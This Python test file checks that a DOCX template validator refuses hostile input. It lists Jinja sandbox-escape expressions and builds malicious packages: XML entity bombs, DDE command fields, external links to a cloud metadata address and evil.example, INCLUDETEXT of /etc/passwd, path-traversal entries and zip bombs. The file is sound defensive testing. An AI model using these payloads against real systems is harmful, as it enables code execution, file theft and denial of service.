"""Hostile templates: everything known is refused, and no file whatever makes the check fail in a way that it does not expect."""

from __future__ import annotations

import io
import random
import re
import struct
import time
import zipfile
import zlib
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kenes.documents.editing import checking
from kenes.documents.filling.problems import TemplateRefused
from kenes.documents.filling.rendering import RenderingFailed, compile_template, fill
from kenes.documents.tests import templates
from kenes.documents.tests.templates import docx_with, repacked

ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ borrower.__class__ }}", "{{ borrower|attr('__class__') }}",
    "{{ borrower['__class__'] }}", "{{ borrower.name.format }}", "{{ '{0.__class__}'.format(borrower) }}",
    "{{ '%s'|format(borrower) }}", "{{ cycler.__init__.__globals__ }}", "{{ joiner.__init__ }}", "{{ lipsum.__globals__ }}",
    "{{ lipsum() }}", "{{ namespace.__init__ }}", "{{ self }}", "{{ self._TemplateReference__context }}", "{{ request }}",
    "{{ config.items() }}", "{{ g.pop }}", "{{ url_for.__globals__ }}", "{{ get_flashed_messages }}", "{{ dict }}",
    "{{ range(10**9) }}", "{% for i in range(1000000000) %}x{% endfor %}", "{{ 'x' * 10**9 }}", "{{ 9**9**9 }}",
    "{{ debts|map(attribute='__class__')|list }}", "{{ debts|select('x')|list }}", "{{ debts|groupby('__class__') }}",
    "{{ debts|sort(attribute='__class__') }}", "{{ debts|tojson }}", "{{ 'x'|center(999999999) }}", "{{ debts|pprint }}",
    "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{% from 'os' import path %}", "{% extends 'base' %}",
    "{% macro f() %}x{% endmacro %}", "{% call f() %}x{% endcall %}", "{% set x = borrower %}", "{% block a %}x{% endblock %}",
    "{% filter upper %}x{% endfilter %}", "{% raw %}{{ x }}{% endraw %}", "{% autoescape false %}x{% endautoescape %}",
    "{% do borrower.clear() %}", "{{ borrower.name is defined }}", "{{ debts[0] }}", "{{ debts[:1] }}", "{{ 1 ~ 2 }}",
    "{{ borrower.update({}) }}", "{{ loop.__class__ }}", "{% for a in debts %}{{ loop._iterator }}{% endfor %}",
    "{% for a in debts %}{{ loop.cycle('a') }}{% endfor %}", "{% for a in debts recursive %}{{ loop(a) }}{% endfor %}",
    "{{ (borrower, ).__class__ }}", "{{ none.__class__ }}", "{{ true.__class__ }}", "{{ [].__class__ }}",
    "{% with x = borrower.__class__ %}{{ x }}{% endwith %}", "{{ {}.__class__ }}", "{{ -1 }}", "{% debug %}",
    "{{ borrower|_counted }}", "{{ _counted }}",
]  # fmt: skip


@pytest.mark.parametrize("expression", ESCAPES)
def test_no_known_way_out_of_the_sandbox_is_accepted(expression: str) -> None:
    docx = docx_with("Слова", expression)
    problems = checking.check(docx, code="RESTRUCT_BANK", language="ru")
    assert [one for one in problems if one.severity == "error"], "the editor is told"
    if "raw" in expression:
        return  # what it prints are its own letters
    # And if it were stored all the same, it would do nothing: refused when loaded, or without any value when run.
    with pytest.raises((TemplateRefused, RenderingFailed)):
        fill(docx, {"borrower": {"name": "x"}, "debts": [{}]})


def _add(part: str, old: bytes, new: bytes) -> Callable[[dict[str, bytes]], object]:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[part], old
        parts[part] = parts[part].replace(old, new + old, 1)

    return change


def _relation(
    kind: str, target: str, mode: str = ' TargetMode="External"'
) -> Callable[[dict[str, bytes]], object]:
    row = (
        f'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"{mode}/>'
    )
    return _add("word/_rels/document.xml.rels", b"</Relationships>", row.encode())


def _body(xml: str) -> Callable[[dict[str, bytes]], object]:
    return _add("word/document.xml", b"<w:sectPr", xml.encode())


def _field(*pieces: str) -> Callable[[dict[str, bytes]], object]:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = ('<w:r><w:fldChar w:fldCharType="' + kind + '"/></w:r>' for kind in ("begin", "end"))
    return _body(f"<w:p>{begin}{runs}{end}</w:p>")


def _bomb(parts: dict[str, bytes]) -> None:
    entities = "".join(
        f'<!ENTITY a{n} "{"&a" + str(n - 1) + ";" if n else "ha"}{"&a" + str(n - 1) + ";" if n else ""}">'
        for n in range(40)
    )
    declaration = f"<!DOCTYPE x [{entities}]>".encode()
    parts["word/document.xml"] = re.sub(
        rb"^(<\?xml[^>]*\?>\s*)", rb"\1" + declaration, parts["word/document.xml"]
    )


def _other_main(parts: dict[str, bytes]) -> None:
    parts["word/evil.xml"] = parts["word/document.xml"].replace(b"borrower", b"evil")
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"word/document.xml", b"word/evil.xml")


def _unnamed_xml(parts: dict[str, bytes]) -> None:
    parts["word/media/image9.dat"] = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://169.254.169.254/"><x/>'


PACKAGES: dict[str, tuple[str, Callable[[dict[str, bytes]], object]]] = {
    "billion laughs": ("doctype", _bomb),
    "external image": ("external", _relation("image", "http://169.254.169.254/x.png")),
    "external image in small letters": ("external", _relation("image", "http://e.example/x", ' TargetMode="external"')),
    "internal image that leads out": ("external", _relation("image", "file:///etc/passwd", "")),
    "internal image above the package": ("external", _relation("image", "../../../etc/passwd", "")),
    "image on a share": ("external", _relation("image", "\\\\host\\share\\x.png", "")),
    "external hyperlink": ("external", _relation("hyperlink", "http://evil.example/")),
    "frame": ("external", _relation("frame", "http://evil.example/")),
    "attached template": ("attached_template", _relation("attachedTemplate", "http://evil.example/a.dotm")),
    "subdocument": ("embedded", _relation("subDocument", "http://evil.example/a.docx")),
    "chunk": ("embedded", _relation("aFChunk", "chunk.htm", "")),
    "object": ("embedded", _relation("oleObject", "media/x.xml", "")),
    "workbook": ("embedded", _relation("package", "media/x.xml", "")),
    "control": ("embedded", _relation("control", "media/x.xml", "")),
    "unknown relation": ("part_unknown", _relation("chart", "media/x.xml", "")),
    "chunk without relation": ("forbidden_element", _body("<w:altChunk/>")),
    "object in the text": ("forbidden_element", _body("<w:p><w:r><w:object/></w:r></w:p>")),
    "picture by VML": ("external", _body('<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://e.example/x"/></w:pict></w:r></w:p>')),
    "DDE": ("field", _field('DDE cmd "/c calc"')),
    "DDEAUTO in pieces": ("field", _field("DD", "EAU", "TO c:\\\\windows cmd")),
    "INCLUDETEXT": ("field", _field('INCLUDETEXT "/etc/passwd"')),
    "INCLUDEPICTURE in pieces": ("field", _field(" INCLUDE", "PICTURE ", '"http://e.example/x"')),
    "field after page number": ("field", _field(" PAGE ", " INCLUDETEXT x")),
    "simple DDE": ("field", _body('<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>')),
    "simple INCLUDEPICTURE": ("field", _body('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://e.example/x"/></w:p>')),
    "field in another namespace": ("field", _body('<w:p><x:fldSimple xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main" x:instr="DDE x"/></w:p>')),
    "field without beginning": ("field", _body("<w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>")),
    "macros": ("macros", lambda parts: parts.update({"word/vbaProject.bin": b"x"})),
    "macros renamed": ("part_unknown", lambda parts: parts.update({"word/media/picture.dat": b"\xcc\x61\x5e"})),
    "macros by content type": ("macros", _add("[Content_Types].xml", b"</Types>", b'<Override PartName="/word/x.xml" ContentType="application/vnd.ms-office.vbaProject"/>')),
    "macro-enabled main part": ("macros", lambda parts: parts.update({"[Content_Types].xml": parts["[Content_Types].xml"].replace(b"vnd.openxmlformats-officedocument.wordprocessingml.document.main", b"vnd.ms-word.document.macroEnabled.main")})),
    "ActiveX": ("embedded", lambda parts: parts.update({"word/activeX/activeX1.xml": b"<x/>"})),
    "picture that is XML": ("part_unknown", lambda parts: parts.update({"word/media/image1.png": b"<x/>"})),
    "XML said to be a picture": ("type_lies", _add("[Content_Types].xml", b"</Types>", b'<Override PartName="/word/fontTable.xml" ContentType="image/png"/>')),
    "XML under another name": ("part_unknown", _unnamed_xml),
    "another main part": ("type_lies", _other_main),
    "UTF-16": ("broken_xml", lambda parts: parts.update({"word/document.xml": parts["word/document.xml"].decode().replace("UTF-8", "UTF-16").encode("utf-16")})),
    "UTF-7": ("broken_xml", lambda parts: parts.update({"word/document.xml": parts["word/document.xml"].replace(b"UTF-8", b"UTF-7")})),
    "remarks of reviewers": ("comments", lambda parts: parts.update({"word/comments.xml": b"<x/>"})),
    "tracked changes": ("tracked_changes", _body('<w:p><w:ins w:id="1" w:author="x"><w:r><w:t>x</w:t></w:r></w:ins></w:p>')),
    "mark in an attribute": ("mark_misplaced", _body('<w:p><w:pPr><w:pStyle w:val="{{ borrower.name }}"/></w:pPr></w:p>')),
    "mark in a remark of XML": ("mark_misplaced", _body("<!-- {{ borrower.name }} -->")),
    "mark between elements": ("mark_misplaced", _body("<w:p>{{ borrower.name }}</w:p>")),
    "paths": ("package_strange", lambda parts: parts.update({"../../etc/cron.d/x": b"x"})),
    "absolute path": ("package_strange", lambda parts: parts.update({"/etc/passwd": b"x"})),
    "two parts of one name": ("package_strange", lambda parts: parts.update({"word/Document.xml": parts["word/document.xml"]})),
    "mail merge": ("forbidden_element", lambda parts: parts.update({"word/settings.xml": parts["word/settings.xml"].replace(b"</w:settings>", b"<w:mailMerge/></w:settings>")})),
}  # fmt: skip


@pytest.mark.parametrize("name", PACKAGES)
def test_a_hostile_package_is_refused_by_its_name_and_never_loaded(name: str) -> None:
    code, change = PACKAGES[name]
    docx = repacked(change)
    problems = checking.check(docx, code="RESTRUCT_BANK", language="ru")
    assert code in {one.code for one in problems if one.severity == "error"}, problems
    with pytest.raises(TemplateRefused):
        compile_template(docx)


def test_the_package_that_the_others_are_made_of_is_good() -> None:
    assert checking.check(repacked(lambda parts: None), code="RESTRUCT_BANK", language="ru") == []


def _with_entry(data: bytes, *, size: int | None = None) -> bytes:
    buffer = io.BytesIO(docx_with("x"))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/big.xml", data)
    raw = bytearray(buffer.getvalue())
    if size is not None:
        at = raw.rindex(b"PK\x01\x02")
        raw[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(raw)


def _overlapping() -> bytes:
    """Many entries of the directory that point to one another's bytes."""
    raw = bytearray(repacked(lambda parts: None))
    first = raw.index(b"PK\x01\x02")
    second = raw.index(b"PK\x01\x02", first + 4)
    raw[second + 42 : second + 46] = raw[first + 42 : first + 46]
    return bytes(raw)


@pytest.mark.parametrize(
    "docx",
    [
        _with_entry(b" " * (30 * 1024 * 1024)),
        _with_entry(b" " * (30 * 1024 * 1024), size=100),
        _with_entry(b"<x/>", size=10**6),
        _overlapping(),
        b"junk before" + templates.docx_with("x"),
        templates.docx_with("x")[:-40],
        b"PK\x03\x04" + bytes(200),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000) + "EncryptedPackage".encode("utf-16-le"),
        b"",
        b"%PDF-1.7",
        zlib.compress(b"x" * 1000),
    ],
    ids=["bomb", "bomb that lies", "size that lies", "overlapping", "prefix", "cut", "zeros", "encrypted", "empty", "pdf", "zlib"],
)  # fmt: skip
def test_packages_that_cannot_be_opened_safely_have_no_parts(docx: bytes) -> None:
    problems = checking.check(docx, code="RESTRUCT_BANK", language="ru")
    assert problems
    assert {one.code for one in problems} <= {"bomb", "not_docx", "package_strange", "encrypted"}
    with pytest.raises(TemplateRefused):
        compile_template(docx)


def _text(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


HEAVY = {
    "beginnings without an end": _text("{{ " * 600_000),
    "braces in runs of their own": "<w:p>" + "<w:r><w:t>{</w:t></w:r>" * 75_000 + "</w:p>",
    "cells": "<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 90_000 + "</w:tr></w:tbl>",
    "wrong marks": _text("{{ borower.name }}") * 35_000,
    "good marks": _text("{{ borrower.name }}") * 4_500,
    "brackets": _text("{{ " + "(" * 3000 + "borrower.name" + ")" * 3000 + " }}"),
    "one long condition": _text("{% if " + " and ".join(["debts"] * 20_000) + " %}x{% endif %}"),
    "ends without a beginning": _text("-%}" * 600_000),
}


@pytest.mark.parametrize("name", HEAVY)
def test_what_would_take_minutes_to_read_is_refused_in_seconds(name: str) -> None:
    docx = repacked(_body(HEAVY[name]))
    began = time.monotonic()
    assert any(one.severity == "error" for one in checking.check(docx, code="RESTRUCT_BANK", language="ru"))
    assert time.monotonic() - began < 10


GOOD = templates.good()
PIECES = st.sampled_from(
    ["{{", "}}", "{%", "%}", "{#", "#}", "{", "}", "if", "endif", "for one in debts", "endfor", "tr ", "p ", " ", "|words",
     "borrower.name", "debts", "loop.index", "«", "“", "_x", ".", "()", "[0]", "<", "&", "\u202e", "ә", "\n", "with x=debt", "endwith"]
)  # fmt: skip


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.lists(PIECES, max_size=12).map("".join), min_size=1, max_size=6))
def test_no_text_makes_the_check_fail_unexpectedly(paragraphs: list[str]) -> None:
    docx = docx_with(*paragraphs)
    problems = checking.check(docx, code="RESTRUCT_BANK", language="ru")
    if not any(one.severity == "error" for one in problems):
        compile_template(docx)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.integers(0, 2**32), st.integers(1, 6))
def test_no_change_of_the_parts_makes_the_check_fail_unexpectedly(seed: int, count: int) -> None:
    chance = random.Random(seed)

    def change(parts: dict[str, bytes]) -> None:
        for _ in range(count):
            name = chance.choice(sorted(parts))
            content = bytearray(parts[name])
            at, length = chance.randrange(len(content)), chance.randrange(1, 30)
            match chance.randrange(3):
                case 0:
                    del content[at : at + length]
                case 1:
                    content[at:at] = content[:length]
                case _:
                    content[at] = chance.randrange(256)
            parts[name] = bytes(content)

    _holds(repacked(change, GOOD))


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.integers(0, 2**32))
def test_no_change_of_the_bytes_makes_the_check_fail_unexpectedly(seed: int) -> None:
    chance = random.Random(seed)
    data = bytearray(GOOD)
    for _ in range(chance.randrange(1, 8)):
        data[chance.randrange(len(data))] = chance.randrange(256)
    _holds(bytes(data))


def _holds(docx: bytes) -> None:
    problems = checking.check(docx, code="RESTRUCT_BANK", language="ru")
    if not any(one.severity == "error" for one in problems):
        compile_template(docx)
